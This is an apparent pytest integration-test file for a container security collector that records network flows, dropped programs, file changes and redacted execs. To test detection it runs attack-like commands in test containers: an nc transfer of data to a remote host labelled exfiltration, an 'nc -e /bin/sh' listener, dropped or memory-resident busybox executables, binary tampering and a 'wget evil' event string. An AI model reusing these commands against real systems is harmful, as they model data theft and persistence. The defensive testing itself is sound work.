"""The collector on real containers that do real things."""

from __future__ import annotations

import contextlib
import math
import socket
import threading
import time
import uuid
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from docker.models.containers import Container
from pyroute2 import netns

from infra.demo.remote import RemoteHosts
from models.records.facts import (
    BootIdentity,
    Change,
    Connection,
    Coverage,
    Direction,
    Exec,
    FileChange,
    Interface,
    Lifecycle,
    Listen,
    Program,
)
from models.records.inventory import State
from producers.settings import load
from producers.sources.docker import watch
from producers.sources.docker.identity import Known, known_of
from producers.sources.docker.layers import layers_of
from producers.sources.docker.programs import STRANGER_NS, Programs
from producers.sources.docker.source import DockerSource
from producers.sources.docker.stats import reading_of
from producers.sources.docker.watch import running
from tests.docker.collecting import Collecting
from tests.docker.passage import Passage
from tests.fixtures_docker import TestEngine


@pytest.fixture(scope="module")
def image(docker_engine: TestEngine) -> str:
    return docker_engine.image("collect", files={"/bin/tool": b"#!/bin/sh\nexec sleep 1000\n"})


@pytest.fixture(scope="module")
def remote() -> Iterator[RemoteHosts]:
    with RemoteHosts(uuid.uuid4().hex[:8], hosts=(9,), ports=(443, 444)) as hosts:
        yield hosts


@pytest.fixture
def collecting(tmp_path: Path) -> Iterator[Collecting]:
    made = Collecting(tmp_path)
    made.poll()
    yield made
    made.source.close()


def sh(container: Container, script: str) -> str:
    """Run a script in a container, to its end."""
    code, said = container.exec_run(["/bin/sh", "-c", script])
    assert code == 0, said
    assert isinstance(said, bytes)
    return said.decode()


def test_bytes_to_a_remote_host_are_told_with_its_address_and_port(
    docker_engine: TestEngine, image: str, remote: RemoteHosts, collecting: Collecting
) -> None:
    """Exfiltration is known by how much went to whom, seen behind the host's translation."""
    container = docker_engine.run(image)
    far = remote.address(9)
    collecting.until(lambda: container.id in collecting.rows, "a first sample")
    before = remote.received_bytes(9)

    sh(container, f"head -c 3000000 /dev/zero | nc {far} 443 >/dev/null")

    def sent() -> int:
        found = collecting.of(container.id, Connection)
        return sum(one.sent_bytes for one in found if (one.peer, one.port) == (far, 443))

    collecting.until(lambda: sent() >= 3_000_000, f"3 MB to {far}:443")
    assert remote.received_bytes(9) - before == 3_000_000
    assert sent() < 3_300_000  # headers and acknowledgements, no more
    one = collecting.of(container.id, Connection)[0]
    assert (one.direction, one.protocol, one.answered) == (Direction.EGRESS, "tcp", True)
    assert sum(one.opened for one in collecting.of(container.id, Connection)) == 1
    assert max(row["network_transmit_bytes_per_s"] for row in seen(collecting, container)) > 1e5


def serving(port: int) -> list[str]:
    """A command that takes what anybody sends to a port."""
    return ["/bin/nc", "-ll", "-p", str(port), "-e", "/bin/sh", "-c", "cat >/dev/null"]


def call_from(remote: RemoteHosts, address: str, port: int, body: bytes) -> None:
    """Send something from the remote host; its socket stays in its namespace."""
    netns.pushns(remote.namespace)
    try:
        connection = socket.create_connection((address, port), timeout=10)
    finally:
        netns.popns()
    with connection:
        connection.sendall(body)


def seen(collecting: Collecting, container: Container) -> list[dict[str, float]]:
    """Rows with rates: the first one of a container has none."""
    rows = collecting.rows.get(container.id or "", [])
    return [row for row in rows if not math.isnan(row["network_transmit_bytes_per_s"])]


def test_a_flow_between_two_containers_is_egress_of_one_and_ingress_of_the_other(
    docker_engine: TestEngine, image: str, collecting: Collecting
) -> None:
    """Lateral movement has two ends, and both are judged. Two networks: two addresses."""
    first, second = docker_engine.network("east"), docker_engine.network("west")
    server = docker_engine.run(
        image, serving(8080),
        network=first.name,
    )  # fmt: skip  # the options in a line
    second.connect(server)
    client = docker_engine.run(image, network=second.name)
    collecting.until(
        lambda: len(getattr(collecting.entries.get(server.id or ""), "addresses", ())) == 2,
        "both addresses in the inventory",
    )
    server.reload()
    address = server.attrs["NetworkSettings"]["Networks"][second.name]["IPAddress"]
    collecting.until(lambda: collecting.of(server.id, Listen), "the open port")

    sh(client, f"head -c 500000 /dev/zero | nc {address} 8080")

    def ends() -> list[Connection]:
        out = collecting.of(client.id, Connection)
        back = collecting.of(server.id, Connection)
        enough = sum(one.sent_bytes for one in out) >= 500_000
        return [out[0], back[0]] if enough and back else []

    out, back = collecting.until(ends, "the flow from both ends")
    assert (out.direction, out.peer, out.port) == (Direction.EGRESS, address, 8080)
    assert (back.direction, back.port) == (Direction.INGRESS, 8080)
    received = sum(one.received_bytes for one in collecting.of(server.id, Connection))
    assert received == sum(one.sent_bytes for one in collecting.of(client.id, Connection))
    assert [one.port for one in collecting.of(server.id, Listen)] == [8080]


def test_each_of_several_interfaces_is_told_apart(
    docker_engine: TestEngine, image: str, collecting: Collecting
) -> None:
    """What leaves through the network of the backup is not what leaves through the shop's."""
    shop, backup = docker_engine.network("shop"), docker_engine.network("backup")
    alone = docker_engine.run(image, serving(8080), network=backup.name)
    container = docker_engine.run(image, network=shop.name)
    collecting.until(lambda: seen(collecting, container), "samples")
    backup.connect(container)
    alone.reload()
    address = alone.attrs["NetworkSettings"]["Networks"][backup.name]["IPAddress"]
    collecting.until(lambda: collecting.of(alone.id, Listen), "the open port")

    def sent() -> dict[str, int]:
        found: dict[str, int] = {}
        for one in collecting.of(container.id, Interface):
            found[one.interface] = found.get(one.interface, 0) + one.sent_bytes
        return found

    def send() -> int:
        sh(container, f"head -c 300000 /dev/zero | nc {address} 8080")
        return sent().get("eth1", 0)

    collecting.until(lambda: send() >= 300_000, "what went through the second one")
    assert sent().get("eth0", 0) < 50_000
    assert collecting.of(alone.id, Interface) == []  # of one, samples tell all


def test_a_published_port_is_ingress_at_the_containers_own(
    docker_engine: TestEngine, image: str, remote: RemoteHosts, collecting: Collecting
) -> None:
    """The host's port differs with each deployment; the service behind it does not."""
    server = docker_engine.run(
        image, serving(80),
        ports={"80/tcp": None},
    )  # fmt: skip  # the options in a line
    port = int(server.attrs["NetworkSettings"]["Ports"]["80/tcp"][0]["HostPort"])
    collecting.until(lambda: collecting.of(server.id, Listen), "the open port")

    call_from(remote, remote.address(1), port, b"x" * 100_000)

    def arrived() -> list[Connection]:
        return [
            one for one in collecting.of(server.id, Connection)
            if one.peer == remote.address(9) and one.received_bytes > 0
        ]  # fmt: skip  # a filter

    collecting.until(lambda: sum(o.received_bytes for o in arrived()) >= 100_000, "the visit")
    assert {(one.direction, one.port) for one in arrived()} == {(Direction.INGRESS, 80)}


def test_a_connection_that_nobody_answers_says_so(
    docker_engine: TestEngine, image: str, remote: RemoteHosts, collecting: Collecting
) -> None:
    """A scan of addresses is mostly silence."""
    container = docker_engine.run(image)
    nobody = remote.address(57)
    collecting.until(lambda: container.id in collecting.rows, "a first sample")

    container.exec_run(["/bin/sh", "-c", f"nc -w 2 {nobody} 22 </dev/null"], detach=True)

    told = collecting.until(
        lambda: [one for one in collecting.of(container.id, Connection) if one.peer == nobody],
        "the unanswered connection",
    )
    assert not told[0].answered


def test_a_dropped_program_that_runs_is_no_part_of_the_image(
    docker_engine: TestEngine, image: str, collecting: Collecting
) -> None:
    """The one proof of a compromise that nobody argues with; the image's own are none."""
    container = docker_engine.run(image)
    sh(container, "mkdir /tmp/x; cp /bin/busybox /tmp/x/busybox")
    container.exec_run(["/tmp/x/busybox", "sleep", "1000"], detach=True)

    def dropped() -> Program | None:
        found = collecting.of(container.id, Program)
        return next((one for one in found if one.executable == "/tmp/x/busybox"), None)

    told = collecting.until(dropped, "the dropped program")
    assert told.in_image is False
    assert (told.user, told.parent) == ("root", "(outside)")
    assert len(told.sha256) == 64
    own = [one for one in collecting.of(container.id, Program) if one.executable == "/bin/busybox"]
    assert own
    assert all(one.in_image for one in own)
    added = collecting.until(
        lambda: [o for o in collecting.of(container.id, FileChange) if o.path == told.executable],
        "the file that was added",
    )
    assert (added[0].change, added[0].executable) == (Change.ADDED, True)
    assert added[0].sha256 == told.sha256


@pytest.mark.parametrize("how", ["deleted", "in memory", "beside a blank"])
def test_a_program_without_a_file_is_no_part_of_the_image(
    docker_engine: TestEngine, image: str, collecting: Collecting, how: str
) -> None:
    """Whoever hides leaves no file behind: removed once it runs, or on a tmpfs."""
    place = {"deleted": "/tmp", "in memory": "/memory", "beside a blank": "/a memory"}[how]
    container = docker_engine.run(image, tmpfs={"/memory": "exec", "/a memory": "exec"})
    sh(container, f"cp /bin/busybox '{place}/busybox'")
    container.exec_run([f"{place}/busybox", "sleep", "1000"], detach=True)
    if how == "deleted":
        sh(container, f"rm {place}/busybox")

    def hidden() -> Program | None:
        found = collecting.of(container.id, Program)
        return next((one for one in found if one.executable.startswith(place)), None)

    assert collecting.until(hidden, "the hidden program").in_image is False


def test_a_dropped_program_in_a_root_of_its_own_is_no_part_of_the_image(
    docker_engine: TestEngine, image: str, collecting: Collecting
) -> None:
    """Behind a changed root no mount tells where a program lies; the writable layer does."""
    container = docker_engine.run(image)
    sh(container, "mkdir -p /jail/bin; cp /bin/busybox /jail/bin/busybox")
    container.exec_run(
        ["/bin/busybox", "chroot", "/jail", "/bin/busybox", "sleep", "1000"], detach=True
    )

    told = collecting.until(
        lambda: [o for o in collecting.of(container.id, Program) if "/jail" in o.executable],
        "the program behind it",
    )
    assert told[0].in_image is False


def test_a_program_that_is_there_before_its_container_is_known_is_not_the_hosts(
    docker_engine: TestEngine, image: str, collecting: Collecting
) -> None:
    """A busy engine tells of a container when its programs run already: told as the host's,
    each would look like somebody who got out.
    """
    programs = Programs(Path("/"), "host/here", 0)
    container = docker_engine.run(image, ["/bin/sleep", "1234"])
    assert container.id is not None
    subject = container.id
    watch = collecting.source._watch
    known = collecting.until(lambda: running(watch.containers()).get(subject), "that it runs")
    now_ns = time.time_ns()

    early = [told.pid for _, told in programs.look(now_ns, {})]
    late = [(whose, told.pid) for whose, told in programs.look(now_ns + 1, {container.id: known})]

    assert known.pid not in early
    assert (container.id, known.pid) in late


def test_the_programs_of_another_engine_are_the_hosts(
    docker_engine: TestEngine, image: str
) -> None:
    """Nobody else would tell of them."""
    container = docker_engine.run(image, ["/bin/sleep", "1234"])
    pid = container.attrs["State"]["Pid"]
    programs, now_ns = Programs(Path("/"), "host/here", 0), time.time_ns()

    assert pid not in {told.pid for _, told in programs.look(now_ns, {})}
    list(programs.look(now_ns + STRANGER_NS, {}))

    assert programs._processes[pid].subject == "host/here"


def test_a_program_that_replaces_itself_is_told_under_its_new_name(
    docker_engine: TestEngine, image: str, collecting: Collecting
) -> None:
    """``exec`` makes no new process: looking at new ones alone would miss it."""
    container = docker_engine.run(
        image, ["/bin/sh", "-c", ("cp /bin/busybox /tmp/busybox; while [ ! -e /tmp/go ]; do "
                "usleep 50000; done; exec /tmp/busybox sleep 1000")],
    )  # fmt: skip  # one command
    collecting.until(lambda: collecting.of(container.id, Program), "the shell")

    sh(container, "touch /tmp/go")

    collecting.until(
        lambda: [o for o in collecting.of(container.id, Program) if o.executable == "/tmp/busybox"],
        "what it became",
    )


def test_a_binary_replaced_with_its_size_and_time_kept_is_seen(
    docker_engine: TestEngine, image: str, collecting: Collecting
) -> None:
    """``docker diff`` shows nothing then."""
    container = docker_engine.run(image)
    sh(
        container,
        "cp /bin/tool /tmp/kept; chmod +x /tmp/kept; touch -d '2020-01-01 00:00' /tmp/kept",
    )

    def told() -> list[FileChange]:
        return [one for one in collecting.of(container.id, FileChange) if one.path == "/tmp/kept"]

    collecting.until(told, "the file")
    sh(container, "printf '#!/bin/sh\\nexec sleep 9999\\n' >/tmp/kept; "
                  "touch -d '2020-01-01 00:00' /tmp/kept")  # fmt: skip  # two lines

    collecting.until(lambda: len({one.sha256 for one in told()}) == 2, "the other content")
    first, last = told()[0], told()[-1]
    assert (first.size_bytes, last.change) == (last.size_bytes, Change.CHANGED)
    assert last.changed_ns > first.changed_ns


def test_image_files_that_change_or_vanish_are_told_and_the_engines_own_are_not(
    docker_engine: TestEngine, image: str, collecting: Collecting
) -> None:
    """Whiteouts are how an overlay says "deleted"; hosts and resolv.conf are nobody's act."""
    container = docker_engine.run(image, init=True)
    sh(container, "echo x >>/bin/tool; rm /etc/passwd; mkdir /var/new; echo y >/var/new/data")

    def told() -> dict[str, Change]:
        return {one.path: one.change for one in collecting.of(container.id, FileChange)}

    collecting.until(lambda: len(told()) >= 3, "three changes")
    assert told() == {
        "/bin/tool": Change.CHANGED, "/etc/passwd": Change.DELETED, "/var/new/data": Change.ADDED,
    }  # fmt: skip  # a table
    sh(container, "rm /var/new/data")
    collecting.until(lambda: told()["/var/new/data"] is Change.DELETED, "it was removed again")


def test_layers_that_the_engine_does_not_tell_are_found_by_the_mounts(
    docker_engine: TestEngine, image: str, collecting: Collecting, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Docker with containerd's image store names none: without them no file and no dropped
    program would be told from the image's own.
    """
    told = docker_engine.run(image)
    layers = told.attrs["GraphDriver"]["Data"]
    upper, lowers = layers_of(Path("/"), told.attrs["State"]["Pid"])
    assert upper == Path(layers["UpperDir"])
    assert [one.resolve() for one in lowers] == list(map(Path, layers["LowerDir"].split(":")))

    def without(*given: Any) -> Known:
        return replace(known_of(*given), upper=None, lowers=())

    monkeypatch.setattr(watch, "known_of", without)
    container = docker_engine.run(image)
    sh(container, "mkdir /tmp/x; cp /bin/busybox /tmp/x/busybox; rm /bin/tool")
    container.exec_run(["/tmp/x/busybox", "sleep", "1000"], detach=True)

    def found() -> dict[str, Change]:
        return {one.path: one.change for one in collecting.of(container.id, FileChange)}

    def programs() -> dict[str, bool | None]:
        return {one.executable: one.in_image for one in collecting.of(container.id, Program)}

    collecting.until(lambda: len(found()) == 2, "two changes")
    assert found() == {"/tmp/x/busybox": Change.ADDED, "/bin/tool": Change.DELETED}
    collecting.until(lambda: len(programs()) == 2, "two programs")
    assert programs() == {"/bin/busybox": True, "/tmp/x/busybox": False}


def test_samples_may_be_taken_more_often_than_frames_are_sent(
    docker_engine: TestEngine, image: str, tmp_path: Path
) -> None:
    """A frame less a second is cheaper for Kafka; a burst still shows."""
    container = docker_engine.run(image)
    assert container.id is not None
    subject = container.id
    often = Collecting(tmp_path, sample_period_s=0.1, frame_interval_s=3.0)

    times: list[int] = []
    ends_s = time.monotonic() + 60
    try:
        while len(times) < 3:
            assert time.monotonic() < ends_s, "no frame with several samples of it"
            for frame in often.source.poll():
                samples = frame.samples
                if subject in samples.subjects:
                    mine = samples.index == samples.subjects.index(subject)
                    times = list(samples.times_ns[mine].tolist())
            time.sleep(0.1)
        assert times == sorted(set(times))
        assert often.source._interval_s == pytest.approx(3.0)
    finally:
        often.source.close()


def test_an_exec_is_told_without_the_secrets_on_its_line(
    docker_engine: TestEngine, image: str, collecting: Collecting
) -> None:
    """Whoever reads the topic must not learn the password that an operator typed."""
    container = docker_engine.run(image)
    collecting.until(lambda: container.id in collecting.rows, "a first sample")

    sh(container, "echo --password=hunter2 postgres://app:s3cret@db/shop >/dev/null")

    told = collecting.until(lambda: collecting.of(container.id, Exec), "the exec")
    assert len(told) == 1
    assert told[0].command.startswith("/bin/sh -c echo --password=<hidden:")
    assert "hunter2" not in told[0].command
    assert "s3cret" not in told[0].command
    assert told[0].session


def test_the_image_s_own_health_checks_are_no_execs(
    docker_engine: TestEngine, image: str, collecting: Collecting
) -> None:
    """They come with every beat, and would drown the one exec that matters."""
    check = {"test": ["CMD-SHELL", "true"], "interval": 10**9}
    container = docker_engine.run(image, healthcheck=check)

    def healthy() -> bool:
        container.reload()
        return bool(container.attrs["State"]["Health"]["Log"])

    collecting.until(healthy, "a health check that ran")
    sh(container, "echo end")
    told = collecting.until(lambda: collecting.of(container.id, Exec), "the exec")
    assert [one.command for one in told] == ["/bin/sh -c echo end"]


def test_boot_identity_is_equal_at_a_restart_and_differs_when_changed(
    docker_engine: TestEngine, image: str, collecting: Collecting
) -> None:
    """A container started otherwise than ever before is another program with a known name."""
    labels = {"plimsoll.role": "web"}
    container = docker_engine.run(image, environment={"PASSWORD": "one"}, labels=labels)
    collecting.until(lambda: collecting.of(container.id, BootIdentity), "the first start")
    container.restart(timeout=0)
    first, second = collecting.until(
        lambda: collecting.of(container.id, BootIdentity)[:2]
        if len(collecting.of(container.id, BootIdentity)) > 1 else None,
        "the second start",
    )  # fmt: skip  # a condition
    other = docker_engine.run(image, environment={"PASSWORD": "two"}, labels=labels)
    changed = collecting.until(lambda: collecting.of(other.id, BootIdentity), "the other")[0]

    assert first == second
    assert first.environment is not None
    assert changed.environment is not None
    assert first.environment.keys() == changed.environment.keys()
    assert first.environment["PASSWORD"] != changed.environment["PASSWORD"]
    assert "one" not in str(first)
    collecting.until(
        lambda: [o for o in collecting.of(container.id, Lifecycle) if o.exit_code is not None],
        "how it ended",
    )


def test_inventory_says_what_a_container_is_and_when_it_is_gone(
    docker_engine: TestEngine, image: str, collecting: Collecting
) -> None:
    """Everything downstream is keyed by lineage and role."""
    container = docker_engine.run(
        image, labels={"com.docker.compose.service": "cart"}, mem_limit="64m", nano_cpus=5 * 10**8
    )
    assert container.id is not None
    subject = container.id

    def runs() -> bool:
        return subject in collecting.entries and collecting.entries[subject].state is State.RUNNING

    collecting.until(runs, "the entry")
    entry = collecting.entries[subject]
    lineage = f"local/{image.removesuffix(':1')}"
    assert (entry.lineage, entry.role) == (lineage, "cart")
    assert entry.image == f"{lineage}@{container.attrs['Image']}"
    assert (entry.memory_limit_bytes, entry.cpu_limit_cores) == (64 << 20, 0.5)
    assert entry.addresses == (container.attrs["NetworkSettings"]["IPAddress"],)

    container.remove(force=True)

    collecting.until(lambda: collecting.entries[subject].state is State.GONE, "that it is gone")


def test_a_container_that_had_gone_before_we_looked_is_known_by_its_image(
    docker_engine: TestEngine, image: str, collecting: Collecting
) -> None:
    """What runs for a moment must not end among the unknown ones."""
    short = "5" * 64
    attributes = {"image": image, "name": "short", "com.docker.compose.service": "cart"}
    actor = {"ID": short, "Attributes": attributes}
    for action in ("create", "exec_start: wget evil", "destroy"):
        event = {"Type": "container", "Action": action, "Actor": actor, "timeNano": time.time_ns()}
        collecting.source._watch._happened(docker_engine.client.api, event)

    collecting.until(lambda: len(collecting.of(short, Lifecycle)) == 2, "its two events")
    assert [one.command for one in collecting.of(short, Exec)] == ["wget evil"]
    entry = collecting.entries[short]
    assert (entry.lineage, entry.role) == (f"local/{image.removesuffix(':1')}", "cart")
    assert (entry.name, entry.state) == ("short", State.GONE)


def test_an_answer_that_we_do_not_understand_costs_no_other_container(
    docker_engine: TestEngine, image: str, collecting: Collecting
) -> None:
    """An engine of another make, or a newer one: the thread that asks it must not end."""
    watch = collecting.source._watch
    strange = (
        {"Type": "container"}, {"Type": "container", "Action": "start", "Actor": {"ID": "x" * 64}},
        {"Type": "container", "Action": "kill", "Actor": {"ID": "y"}, "timeNano": "soon"},
    )  # fmt: skip  # events
    for event in strange:
        watch._events.put((watch._round, event))
    container = docker_engine.run(image)
    collecting.until(lambda: seen(collecting, container), "samples of another one")
    assert collecting.of(container.id, Lifecycle)


def test_page_cache_is_no_memory_in_use(
    docker_engine: TestEngine, image: str, collecting: Collecting
) -> None:
    """Otherwise whatever reads or writes files looks like a leak."""
    container = docker_engine.run(image)
    collecting.until(lambda: len(seen(collecting, container)) > 1, "samples")
    before = seen(collecting, container)[-1]["memory_working_set_bytes"]

    sh(container, "head -c 60000000 /dev/zero >/tmp/big; cat /tmp/big >/dev/null")
    have = len(seen(collecting, container))
    collecting.until(lambda: len(seen(collecting, container)) > have, "a sample after it")

    told: Any = container.stats(stream=False)
    usage = told["memory_stats"]["usage"]
    after = seen(collecting, container)[-1]["memory_working_set_bytes"]
    assert usage > 50_000_000
    assert after - before < 10_000_000


def test_cgroup_files_and_the_engine_give_the_same_figures(
    docker_engine: TestEngine, image: str, tmp_path: Path
) -> None:
    """One host may read files and another ask the engine: their containers are siblings."""
    container = docker_engine.run(image, ["/bin/sh", "-c", "while true; do true; done"])
    assert container.id is not None
    from producers.sources.docker.cgroups import Cgroups

    files = Cgroups(Path("/")).files_of(container.attrs["State"]["Pid"], container.id)
    assert files is not None
    ours = files.read(time.time_ns())
    theirs = reading_of(
        docker_engine.client.api.stats(container.id, stream=False, one_shot=True), time.time_ns()
    )
    later = files.read(time.time_ns())
    files.close()

    assert ours.cpu_ns <= theirs.cpu_ns <= later.cpu_ns
    assert theirs.memory_bytes == pytest.approx(later.memory_bytes, abs=2e6)
    assert (theirs.tasks, theirs.periods) == (later.tasks, later.periods)
    assert (theirs.read_bytes, theirs.write_bytes) == (later.read_bytes, later.write_bytes)


def test_without_cgroup_files_the_engine_is_asked(
    docker_engine: TestEngine, image: str, tmp_path: Path
) -> None:
    """A collector that may not look into the host still measures, at a higher price."""
    container = docker_engine.run(image, ["/bin/sh", "-c", "while true; do true; done"])
    root = tmp_path / "root"
    (root / "etc").mkdir(parents=True)
    (root / "proc").mkdir()
    (root / "etc/machine-id").write_text("0123456789abcdef0123456789abcdef")
    blind = Collecting(tmp_path / "data", host_root=root)
    try:
        blind.until(
            lambda: [r for r in seen(blind, container) if r["cpu_cores"] > 0.05], "rates of the API"
        )
        assert "no cgroup files" in blind.source.opening()
    finally:
        blind.source.close()


def test_the_host_is_sampled_and_its_own_programs_are_told(collecting: Collecting) -> None:
    """A host is judged too: whoever escapes a container is a process that belongs to none."""
    subject = collecting.until(
        lambda: next((s for s in collecting.entries if s.startswith("host/")), None), "the host"
    )
    row = collecting.until(
        lambda: next((r for r in collecting.rows[subject] if not math.isnan(r["cpu_cores"])), None),
        "its rates",
    )
    assert 0.0 < row["memory_limit_ratio"] < 1.0
    assert row["processes"] > 3
    assert collecting.entries[subject].lineage == "host/default"
    names = {one.executable.rpartition("/")[2] for one in collecting.of(subject, Program)}
    assert any(name.startswith("python3") for name in names)
    assert all(one.in_image is None for one in collecting.of(subject, Program))


def test_nothing_ends_when_containers_come_and_go(
    docker_engine: TestEngine, image: str, collecting: Collecting
) -> None:
    """Each may vanish between being listed and being looked at."""
    ended = threading.Event()
    failed: list[Exception] = []

    def churn() -> None:
        try:
            for _ in range(4):
                docker_engine.run(image).remove(force=True)
        except Exception as problem:  # noqa: BLE001  # shown by the test
            failed.append(problem)
        ended.set()

    thread = threading.Thread(target=churn)
    thread.start()
    collecting.until(ended.is_set, "the end of the churn", timeout_s=60)
    thread.join()
    collecting.poll()

    assert not failed
    assert collecting.sequences == list(range(len(collecting.sequences)))


HOSTILE = r"""
name=$(printf '\377\376'); ip link set eth0 down; ip link set eth0 name "$name"
mkdir "/tmp/$name"; mount -t tmpfs none "/tmp/$name"; cp /bin/busybox "/tmp/$name/busybox"
printf '#!/bin/sh\nexec "/tmp/%s/busybox" sh -c "while true; do sleep 1; done"\n' "$name" \
    >"/tmp/$name/$name"
chmod +x "/tmp/$name/$name"
"""


def test_no_name_that_a_container_gives_itself_ends_the_collector(
    docker_engine: TestEngine, image: str, collecting: Collecting
) -> None:
    """Processes, interfaces and mounts are called what their owner likes, in any bytes."""
    container = docker_engine.run(
        image, cap_add=["NET_ADMIN", "SYS_ADMIN"], security_opt=["apparmor=unconfined"]
    )
    collecting.until(lambda: len(seen(collecting, container)) > 1, "samples")

    sh(container, HOSTILE)
    container.exec_run(
        ["/bin/sh", "-c", "name=$(printf '\\377\\376'); exec \"/tmp/$name/$name\""], detach=True
    )

    told = collecting.until(
        lambda: [
            one for one in collecting.of(container.id, Program) if one.executable.startswith("/tmp")
        ],
        "the program of that name",
    )
    assert told[0].executable == r"/tmp/\udcff\udcfe/busybox"
    assert told[0].in_image is False
    have = len(seen(collecting, container))
    collecting.until(lambda: len(seen(collecting, container)) > have + 1, "more samples")


def test_a_clock_that_is_set_back_blinds_nobody(
    docker_engine: TestEngine, image: str, collecting: Collecting
) -> None:
    """A machine that booted with the wrong time is corrected, perhaps by hours."""
    container = docker_engine.run(image)
    collecting.until(lambda: len(seen(collecting, container)) > 1, "samples")
    collecting.until(lambda: collecting.of(container.id, Program), "its program")

    collecting.back_ns = 3_600 * 10**9

    have = len(seen(collecting, container))
    collecting.until(lambda: len(seen(collecting, container)) > have + 1, "more samples")
    sh(container, "cp /bin/busybox /tmp/dropped")
    container.exec_run(["/bin/nc", "-l", "-p", "99"], detach=True)
    collecting.until(lambda: collecting.of(container.id, FileChange), "the file")
    collecting.until(lambda: collecting.of(container.id, Listen), "the open port")
    assert collecting.of(container.id, Exec)


def test_an_engine_that_falls_silent_is_told_and_what_was_done_meanwhile_too(
    docker_engine: TestEngine, image: str, tmp_path: Path
) -> None:
    """Whoever wants to act unseen stops the engine's socket first."""
    container = docker_engine.run(image)
    passage = Passage(tmp_path / "docker.sock")
    passage.open()
    blind = Collecting(tmp_path / "data", docker_host=passage.address)
    host = blind.source._subject

    def silences() -> list[Coverage]:
        return [one for one in blind.of(host, Coverage) if one.problem == "engine-silent"]

    try:
        blind.until(lambda: seen(blind, container), "a sample")
        passage.close()
        blind.until(silences, "the silence")
        assert silences()[0].until_ns == 0
        have = len(seen(blind, container))
        sh(container, "echo unseen")
        blind.until(lambda: len(seen(blind, container)) > have + 2, "samples all the same")
        assert not blind.of(container.id, Exec)

        passage.open()

        told = blind.until(lambda: blind.of(container.id, Exec), "what was done meanwhile")
        assert [one.command for one in told] == ["/bin/sh -c echo unseen"]
        blind.until(lambda: len(silences()) == 2, "its end")
        assert silences()[1].until_ns > 0
    finally:
        blind.source.close()
        passage.close()


def test_without_an_engine_the_first_line_says_so(tmp_path: Path) -> None:
    """The host is watched all the same, and its containers once the engine is there."""
    alone = Collecting(tmp_path, docker_host=f"unix://{tmp_path}/none.sock")
    try:
        assert "none.sock does not answer: no container is seen" in alone.source.opening()
        alone.until(lambda: alone.rows, "the host's sample")
    finally:
        alone.source.close()


def test_no_file_stays_open_for_what_is_gone(
    docker_engine: TestEngine, image: str, collecting: Collecting
) -> None:
    """A collector runs for months; one handle a container would end it."""
    sockets = []
    for _ in range(3):
        containers = [docker_engine.run(image) for _ in range(3)]
        for one in containers:
            collecting.until(lambda one=one: seen(collecting, one), "samples")  # type: ignore[misc]  # bound now
        theirs = [str(one.id) for one in containers]
        theirs += [f"/proc/{one.attrs['State']['Pid']}/" for one in containers]
        assert [name for name in opened() if any(part in name for part in theirs)]
        for one in containers:
            one.remove(force=True)
        collecting.until(
            lambda ids=theirs[:3]: all(collecting.entries[i].state is State.GONE for i in ids),  # type: ignore[misc]  # bound now
            "that they are gone",
        )
        collecting.poll()
        assert not [name for name in opened() if any(part in name for part in theirs)]
        sockets.append(sum(name.startswith("socket:") for name in opened()))
    assert sockets[-1] <= sockets[0] + 3, "connections to the engine come and go"


def opened() -> list[str]:
    """What this process holds open."""
    found = []
    for handle in Path("/proc/self/fd").iterdir():
        with contextlib.suppress(OSError):  # the one that lists them
            found.append(str(handle.readlink()))
    return found


def test_the_first_line_says_what_is_seen(collecting: Collecting) -> None:
    """Whoever starts a collector sees at once what it can't see."""
    line = collecting.source.opening()

    assert "Docker engine" in line
    assert "cgroup v" in line
    assert "containers running" in line
    assert "made a deployment key" in line


def test_two_collectors_share_a_key_and_its_hmacs(tmp_path: Path) -> None:
    """The fleet's hosts must agree on what an equal value is."""
    settings = load(data_dir=tmp_path)
    for expected in (True, False):
        source = DockerSource.open(settings, time.time_ns)
        source.close()
        assert ("made a deployment key" in source.opening()) is expected
